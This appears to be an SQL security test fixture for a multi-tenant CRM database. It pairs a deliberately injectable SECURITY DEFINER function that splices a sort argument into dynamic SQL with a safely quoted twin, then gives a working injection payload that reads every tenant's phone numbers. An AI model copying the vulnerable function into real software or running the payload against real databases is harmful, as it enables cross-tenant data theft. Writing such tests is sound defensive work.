-- The filter is there, and the sort order is spliced in after it as text.
-- object: crm.contacts_sorted(text)
-- base: third_session
-- refused: 42703
--- leak
RESET ROLE;
CREATE FUNCTION crm.contacts_sorted(sort text) RETURNS SETOF text LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = crm, pg_temp AS $$
BEGIN
    RETURN QUERY EXECUTE 'SELECT name FROM contact WHERE tenant_id = ctx.tenant_id() ORDER BY ' || sort;
END $$;
--- twin
RESET ROLE;
CREATE FUNCTION crm.contacts_sorted(sort text) RETURNS SETOF text LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = crm, pg_temp AS $$
BEGIN
    RETURN QUERY EXECUTE format('SELECT name FROM contact WHERE tenant_id = ctx.tenant_id() ORDER BY %I', sort);
END $$;
--- exploit
SELECT crm.contacts_sorted('(SELECT set_config(''peek.seen'', string_agg(phone, '',''), true) FROM contact)');
SELECT 1 WHERE current_setting('peek.seen', true) LIKE '%secret of b%';
